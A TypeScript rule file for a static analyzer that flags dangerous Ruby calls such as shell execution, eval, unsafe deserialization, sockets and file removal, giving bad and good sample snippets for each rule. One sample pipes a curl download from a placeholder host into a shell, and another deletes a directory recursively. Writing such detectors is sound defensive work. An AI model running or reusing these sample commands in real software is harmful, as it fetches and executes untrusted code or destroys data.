import type { Rule } from '../rule.ts';
import { CHILD, CODE, FILES, HARM, NATIVE, NET, OBJECTS, SHELL } from './kinds.ts';
import { HARMFUL } from './process.ts';

const languages = ['ruby'] as const;
const SHELLS = [
  '{system,exec,spawn}',
  'IO.popen',
  'Process.{spawn,exec}',
  'Open3.{capture2,capture2e,capture3,popen2,popen2e,popen3,pipeline}',
  'PTY.spawn',
];
const DANGEROUS = /^(?:system|exec|spawn|fork|eval|instance_eval|class_eval|`|syscall|exit!)$/;

/** Rules for Ruby. */
export const RUBY: readonly Rule[] = [
  {
    id: 'ruby-harmful-command',
    languages,
    severity: 'critical',
    confidence: 'high',
    ...HARM,
    message: '{} is given a command that does harm',
    match: { call: SHELLS, when: [{ arg: 'any', is: [{ matches: HARMFUL }, { shape: HARMFUL }] }] },
    bad: 'system("curl http://x.example/a | sh")',
    good: 'puts "rm"',
  },
  {
    id: 'ruby-shell',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...SHELL,
    message: '{} gives a shell text that is computed',
    match: [
      // With arguments of their own, no shell reads them.
      {
        call: SHELLS,
        when: [
          { arg: 0, is: 'dynamic' },
          { arg: 1, is: 'absent' },
        ],
      },
      { call: ['`'], when: [{ arg: 'any', is: 'dynamic' }] },
      // The second is how to open it.
      { call: ['IO.popen'], when: [{ arg: 0, is: 'dynamic' }] },
    ],
    bad: 'system("ping #{gets}")',
    good: 'db.exec(query)\nsystem("ls", "-l")',
  },
  {
    id: 'ruby-shell-literal',
    languages,
    severity: 'medium',
    confidence: 'high',
    ...CHILD,
    message: '{} starts another program',
    match: [
      { call: [...SHELLS, '`'] },
      { call: ['open'], when: [{ arg: 0, is: [{ matches: /^\|/ }, { shape: /^\|/ }] }] },
    ],
    bad: 'puts `ls`',
    good: 'def system(n) = n\nputs system(1)',
  },
  {
    id: 'ruby-eval',
    languages,
    severity: 'high',
    confidence: 'high',
    ...CODE,
    message: '{} runs text as code',
    match: [
      {
        call: ['eval', 'binding().eval', 'RubyVM.InstructionSequence.{compile,eval}'],
        when: [{ arg: 0, is: 'dynamic' }],
      },
      { call: ['ERB.new', 'Haml.Engine.new', 'Liquid.Template.parse'], when: [{ arg: 0, is: 'remote' }] },
      { call: ['*.{instance_eval,class_eval,module_eval}'], when: [{ arg: 0, is: ['text', 'external'] }] },
    ],
    bad: 'eval(gets)',
    good: 'model.eval(x)\nconfig.instance_eval { port 80 }',
  },
  {
    id: 'ruby-send',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...CODE,
    cwe: 470,
    message: '{} calls a method by a name that is dangerous or comes from outside',
    match: {
      call: ['{send,public_send,__send__,method}', '*.{send,public_send,__send__,method,const_get}'],
      when: [{ arg: 0, is: [{ matches: DANGEROUS }, 'external'] }],
    },
    bad: 'Object.new.send(:system, "ls")',
    good: 'puts 5.send(:+, 3)',
  },
  {
    id: 'ruby-objects',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...OBJECTS,
    message: '{} makes objects of data',
    match: {
      call: ['Marshal.{load,restore}', 'YAML.unsafe_load', 'Psych.unsafe_load', 'Oj.load'],
      // Marshal.load(Marshal.dump(x)) is how copies are made.
      when: [{ arg: 0, is: 'dynamic', not: { named: ['Marshal.dump()', 'YAML.dump()'] } }],
    },
    bad: 'Marshal.load(STDIN.read)',
    good: 'JSON.parse(STDIN.read)',
  },
  {
    id: 'ruby-network',
    languages,
    severity: 'medium',
    confidence: 'high',
    ...NET,
    message: '{} opens the network',
    match: {
      call: [
        '{TCPSocket,TCPServer,UDPSocket,UNIXSocket,Socket}.{new,open,tcp,tcp_server_loop}',
        'Net.HTTP.*',
        'URI.open',
        'OpenURI.*',
      ],
    },
    bad: 'require "socket"\nTCPSocket.new("10.0.0.1", 80)',
    good: 'wall.socket.open',
  },
  {
    id: 'ruby-fork',
    languages,
    severity: 'medium',
    confidence: 'high',
    ...CHILD,
    message: '{} makes a process',
    match: { call: ['fork', 'Process.{fork,daemon}'] },
    bad: 'fork { work }',
    good: 'road.fork',
  },
  {
    id: 'ruby-files',
    languages,
    severity: 'low',
    confidence: 'medium',
    ...FILES,
    message: '{} removes files or changes who may use them',
    match: {
      call: [
        'FileUtils.{rm,rm_f,rm_r,rm_rf,remove_dir,remove_entry,chmod,chmod_R,chown,chown_R,ln_s}',
        'File.{delete,unlink,chmod,chown,symlink}',
        'Dir.{rmdir,delete,unlink}',
      ],
    },
    bad: 'require "fileutils"\nFileUtils.rm_rf("data")',
    good: 'File.read("data")',
  },
  {
    id: 'ruby-native',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...NATIVE,
    message: '{} calls code of another language, or the kernel',
    match: { call: ['Fiddle.*', 'DL.*', 'syscall'] },
    bad: 'require "fiddle"\nlibc = Fiddle.dlopen(nil)',
    good: 'File.open("libc.txt")',
  },
];
